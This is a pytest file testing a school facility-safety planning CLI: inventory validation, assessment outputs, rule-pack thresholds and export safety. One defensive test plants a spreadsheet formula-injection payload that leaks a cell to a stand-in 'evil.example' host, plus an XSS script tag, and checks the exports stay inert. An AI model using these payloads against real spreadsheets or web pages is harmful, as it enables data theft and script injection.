"""The ``facility-planner`` command end to end, on the sample district and broken copies of it."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import openpyxl
import pyogrio
import pytest
import yaml

from facility_planner.cli import main
from facility_planner.rules import load_pack

ROOT = Path(__file__).resolve().parent.parent
SAMPLE = ROOT / "sample_sites"
MEASURES = {"M1", "M2", "M3", "M4", "A1", "A2", "C1", "C2", "C3", "C4"}


def _header_index(ws, name: str) -> int:
    return [c.value for c in ws[1]].index(name) + 1


@pytest.fixture(scope="module")
def assessed(tmp_path_factory) -> Path:
    """One ``assess`` run over the sample district, shared by the tests that read its outputs."""
    out = tmp_path_factory.mktemp("assess")
    code = main(["assess", str(SAMPLE / "inventory.xlsx"), "--map", str(SAMPLE / "campus.gpkg"),
                 "--budget", "150000", "--as-of", "2026-01-15", "--out", str(out)])
    assert code == 0
    return out


def test_validate_sample_district_is_clean(capsys):
    code = main(["validate", str(SAMPLE / "inventory.xlsx"), "--map", str(SAMPLE / "campus.gpkg")])
    out = capsys.readouterr().out
    assert code == 0, out
    assert "0 error(s)" in out


def test_validate_broken_copy_names_every_problem(tmp_path, capsys):
    wb = openpyxl.load_workbook(SAMPLE / "inventory.xlsx")
    doors = wb["doors"]
    # bad enumeration: row 5, column role
    doors.cell(row=5, column=_header_index(doors, "role")).value = "front door"
    # duplicate id: row 7 repeats row 6's door_id
    doors.cell(row=7, column=1).value = doors.cell(row=6, column=1).value
    # dangling reference: row 9 points at a building that does not exist
    doors.cell(row=9, column=_header_index(doors, "building_id")).value = "NO-SUCH-BUILDING"
    # swapped coordinates: row 2 (exterior door with lon/lat)
    lon_col, lat_col = _header_index(doors, "lon"), _header_index(doors, "lat")
    lon, lat = doors.cell(row=2, column=lon_col).value, doors.cell(row=2, column=lat_col).value
    assert lon is not None and lat is not None
    doors.cell(row=2, column=lon_col).value, doors.cell(row=2, column=lat_col).value = lat, lon
    # missing required column: building_id deleted from the aeds sheet
    aeds = wb["aeds"]
    n_aeds = aeds.max_row - 1
    aeds.delete_cols(_header_index(aeds, "building_id"))
    broken = tmp_path / "broken.xlsx"
    wb.save(broken)

    code = main(["validate", str(broken), "--json"])
    report = json.loads(capsys.readouterr().out)
    assert code == 1
    errors = report["errors"]

    def found(sheet: str, row: int | None, column: str, words: str) -> bool:
        return any(e["sheet"] == sheet and (row is None or e["row"] == row) and e["column"] == column
                   and words in e["message"].lower() for e in errors)

    assert found("doors", 5, "role", "front door")
    assert found("doors", 7, "door_id", "already used")
    assert found("doors", 9, "building_id", "no-such-building")
    assert any(e["sheet"] == "doors" and e["row"] == 2 and "swapped" in e["message"] for e in errors)
    assert any(e["sheet"] == "aeds" and e["column"] == "building_id" for e in errors)
    # nothing lost: the duplicate, the dangling door and every AED row are kept as rejected rows
    rejected = report["rejected_rows"]
    assert sum(r["sheet"] == "aeds" for r in rejected) == n_aeds
    assert {r["sheet"] for r in rejected} >= {"doors", "aeds"}


def test_validate_text_report_names_sheet_row_column(tmp_path, capsys):
    wb = openpyxl.load_workbook(SAMPLE / "inventory.xlsx")
    doors = wb["doors"]
    doors.cell(row=4, column=_header_index(doors, "lock_from_inside")).value = "maybe"
    path = tmp_path / "bad.xlsx"
    wb.save(path)
    code = main(["validate", str(path), "--rejected", str(tmp_path / "rejected.csv")])
    out = capsys.readouterr().out
    assert code == 1
    assert "sheet=doors row=4 column=lock_from_inside" in out
    assert "maybe" in out


def test_missing_file_is_a_sentence_not_a_traceback(tmp_path, capsys):
    code = main(["validate", str(tmp_path / "nope.xlsx")])
    err = capsys.readouterr().err
    assert code == 1
    assert err.startswith("error:") and "Traceback" not in err


def test_assess_writes_every_output(assessed):
    for name in ("assessment.xlsx", "coverage.gpkg", "map.html", "summary.json", "projects.csv"):
        assert (assessed / name).stat().st_size > 0, name


def test_summary_lists_every_building_with_measures_tiers_and_evidence(assessed):
    summary = json.loads((assessed / "summary.json").read_text())
    wb = openpyxl.load_workbook(SAMPLE / "inventory.xlsx", read_only=True)
    building_ids = {row[0] for row in wb["buildings"].iter_rows(min_row=2, values_only=True) if row[0]}
    assert {b["building_id"] for b in summary["buildings"]} == building_ids
    for b in summary["buildings"]:
        assert set(b["minimum_measures"]) == MEASURES
        assert b["pass_tiers"], b["building_id"]
        for layer in b["pass_tiers"].values():
            assert all(t is None or 0 <= t <= 4 for t in layer.values())
        for measure, status in b["minimum_measures"].items():
            if status in ("unmet", "partial"):
                named = [item for items in b["evidence"][measure].values() for item in items]
                assert named, (b["building_id"], measure)
        assert set(b["coverage"]) >= {"camera_entrance_coverage", "aed_reach_coverage", "radio_area_coverage"}
        assert b["risk"] is not None
    budget = summary["budget"]
    assert budget["limit"] == 150000
    assert budget["selected_cost"] <= 150000
    assert budget["method"] and budget["gap"] is not None
    chosen = [p for p in summary["projects"] if p["selected"]]
    assert chosen and sum(p["cost"] for p in chosen) == pytest.approx(budget["selected_cost"])
    assert {"errors", "warnings", "rejected_rows"} <= set(summary["validation"])


def test_coverage_geopackage_layers_are_readable(assessed):
    layers = pyogrio.list_layers(assessed / "coverage.gpkg")
    names = {name for name, _ in layers}
    assert {"camera_views", "aed_reach"} <= names
    for name in names:
        frame = pyogrio.read_dataframe(assessed / "coverage.gpkg", layer=name)
        assert frame.crs is not None


def test_projects_csv_matches_summary(assessed):
    summary = json.loads((assessed / "summary.json").read_text())
    with open(assessed / "projects.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(summary["projects"])


def test_changed_threshold_in_a_pack_copy_changes_the_result(tmp_path):
    """Policy is data: a district's copy of the COPS pack with a stricter M2 threshold."""
    pack_dir = ROOT / "facility_planner" / "rules"
    data = yaml.safe_load((pack_dir / "cops_minimum.yaml").read_text())
    rule = next(r for r in data["rules"] if r["id"] == "M2-LOCKS")
    rule["threshold"] = 0  # every building now meets the classroom-lock rule
    rule.pop("partial_threshold", None)
    strict = tmp_path / "cops_lenient.yaml"
    strict.write_text(yaml.safe_dump(data))
    assert load_pack(strict).rule("M2-LOCKS").threshold == 0

    def m2_evidence(pack: Path, out: Path) -> dict[str, list]:
        args = ["assess", str(SAMPLE / "inventory.xlsx"), "--map", str(SAMPLE / "campus.gpkg"),
                "--rules", str(pack), "--out", str(out), "--as-of", "2026-01-15"]
        assert main(args) == 0
        summary = json.loads((out / "summary.json").read_text())
        return {b["building_id"]: b["evidence"].get("M2", {}).get("M2-LOCKS") for b in summary["buildings"]}

    before = m2_evidence(pack_dir / "cops_minimum.yaml", tmp_path / "before")
    after = m2_evidence(strict, tmp_path / "after")
    assert any(before.values())
    assert not any(after.values())


def test_template_and_demo_data_commands(tmp_path):
    assert main(["template", str(tmp_path / "blank.xlsx")]) == 0
    wb = openpyxl.load_workbook(tmp_path / "blank.xlsx")
    assert {"sites", "buildings", "doors", "cameras", "aeds"} <= set(wb.sheetnames)

    assert main(["demo-data", str(tmp_path / "demo"), "--schools", "3", "--seed", "4"]) == 0
    files = {p.name for p in (tmp_path / "demo").iterdir()}
    assert "campus.gpkg" in files
    inventory = tmp_path / "demo" / "inventory.xlsx"
    assert main(["validate", str(inventory), "--map", str(tmp_path / "demo" / "campus.gpkg")]) == 0


def test_hostile_names_export_inert(tmp_path):
    """A name starting with =HYPERLINK(...) lands in the workbook and CSV as text, not a formula."""
    wb = openpyxl.load_workbook(SAMPLE / "inventory.xlsx")
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    buildings = wb["buildings"]
    buildings.cell(row=2, column=_header_index(buildings, "name")).value = hostile
    sites = wb["sites"]
    sites.cell(row=2, column=_header_index(sites, "name")).value = "<script>alert(1)</script>"
    path = tmp_path / "hostile.xlsx"
    wb.save(path)
    out = tmp_path / "out"
    assert main(["assess", str(path), "--map", str(SAMPLE / "campus.gpkg"), "--budget", "50000",
                 "--out", str(out)]) == 0
    book = openpyxl.load_workbook(out / "assessment.xlsx")
    for ws in book:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and "HYPERLINK" in cell.value:
                    assert cell.data_type == "s"
                    assert not cell.value.startswith("=")
    assert not any(line.startswith("=") or ",=" in line
                   for line in (out / "projects.csv").read_text().splitlines())
    html = (out / "map.html").read_text()
    assert "<script>alert(1)</script>" not in html
    shutil.rmtree(out)


def test_version_prints_the_installed_version(capsys):
    import facility_planner

    with pytest.raises(SystemExit) as exc:
        main(["--version"])
    assert exc.value.code == 0
    assert capsys.readouterr().out.strip() == f"facility-planner {facility_planner.__version__}"


def test_cad_layer_and_out_crs_options():
    from facility_planner.cli import build_parser

    args = build_parser().parse_args(["assess", "inv.xlsx", "--map", "site.dxf", "--cad-layer", "A-BLDG",
                                      "--cad-layer", "PORTABLES", "--out-crs", "EPSG:3417", "--out", "out"])
    assert args.cad_layer == ["A-BLDG", "PORTABLES"] and args.out_crs == "EPSG:3417"
    assert build_parser().parse_args(["validate", "inv.xlsx"]).cad_layer is None
